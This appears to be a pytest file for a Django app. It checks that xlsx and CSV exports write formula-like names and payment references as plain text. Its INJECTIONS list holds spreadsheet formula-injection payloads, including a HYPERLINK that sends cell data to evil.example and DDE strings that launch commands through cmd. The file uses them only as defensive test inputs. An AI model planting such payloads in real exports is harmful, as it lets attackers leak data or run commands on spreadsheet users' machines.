"""Every xlsx export writes what users typed as text: a name or a payment reference
that starts like a formula (= + - @, tab, CR) is no live formula in Excel, and a
control character in existing data never makes the export fail."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.fulfilment.test_pages import as_user
from tests.fulfilment.test_pages_books import ledger_with_lines
from tests.registry.factories import enterprise, recognition
from zjtx.fulfilment.models import Payment
from zjtx.registry.models import Enterprise

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as z:
        names = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(names) == 1
        return z.read(names[0]).decode("utf-8")


def cell_of(xml: str, text: str) -> str:
    """The <c> element whose text is TEXT (XML-escaped as openpyxl writes it)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    for c in re.findall(r"<c [^>]*>.*?</c>", xml, flags=re.S):
        if f">{escaped}</t>" in c:
            return c
    raise AssertionError(f"no cell holds {text!r}")


def assert_text_cells(data: bytes, values: list[str]) -> None:
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml, "a formula was written"
    for value in values:
        c = cell_of(xml, value)
        assert 't="inlineStr"' in c, c
    # and a reader's view of it: the text, as typed (XML reads a bare CR as a line feed)
    read = {v for row in load_workbook(BytesIO(data)).active.iter_rows(values_only=True) for v in row}
    assert {v.replace("\r", "\n") for v in values} <= read


def test_formula_like_enterprise_names_export_as_text(tmp_path):
    for i, name in enumerate(INJECTIONS):
        recognition(enterprise(name=name), source_document=INJECTIONS[-1 - i])
    for kind in ("enterprises", "recognitions"):
        path = tmp_path / f"{kind}.xlsx"
        call_command("export", kind, str(path), stdout=StringIO())
        assert_text_cells(path.read_bytes(), INJECTIONS)
    # the text is marked as Excel marks a typed '=…: it stays text when edited
    ws = load_workbook(tmp_path / "enterprises.xlsx").active
    typed = {v.replace("\r", "\n") for v in INJECTIONS}
    marked = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in typed]
    assert len(marked) == len(INJECTIONS) and all(c.quotePrefix and c.data_type == "s" for c in marked)


def test_a_control_character_in_a_name_does_not_break_the_export(tmp_path):
    enterprise(name="洛阳\x01某\x1f科技有限公司")
    enterprise(name="洛阳正常科技有限公司")
    path = tmp_path / "enterprises.xlsx"
    call_command("export", "enterprises", str(path), stdout=StringIO())
    names = [r[1] for r in load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    assert names == ["洛阳\ufffd某\ufffd科技有限公司", "洛阳正常科技有限公司"]


def test_the_ledger_xlsx_writes_names_and_references_as_text(client, world, make_user):
    ledger_with_lines(client, world, make_user)
    Payment.objects.filter(reference="SZ-2").update(reference=INJECTIONS[0])
    Payment.objects.filter(reference="SZ-1").update(reference="@SUM(1)\x07")
    Enterprise.objects.filter(pk=world["jx"].pk).update(name="=1+1\x01涧西")
    response = as_user(client, world["city_admin"]).get("/fulfilment/ledger/?format=xlsx&part=city")
    assert response.status_code == 200
    assert_text_cells(response.content, [INJECTIONS[0], "@SUM(1)\ufffd", "=1+1\ufffd涧西"])
    # numbers and dates stay numbers and dates
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
    assert all(isinstance(r[10], (int, float)) for r in rows)


def test_the_import_error_list_csv_quotes_formula_like_text(client, world):
    import csv
    import io

    from django.urls import reverse

    from zjtx.registry.models import ImportLog

    log = ImportLog.objects.create(kind="enterprises", file_name="x.xlsx", status="refused", error_count=1,
                                   errors=[[2, "=cmd|' /C calc'!A0", "-1+1 不是有效的金额"], [3, "名称", "缺少"]])
    response = as_user(client, world["city_admin"]).get(reverse("registry:import-errors", args=[log.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1:] == [["2", "'=cmd|' /C calc'!A0", "'-1+1 不是有效的金额"], ["3", "名称", "缺少"]]
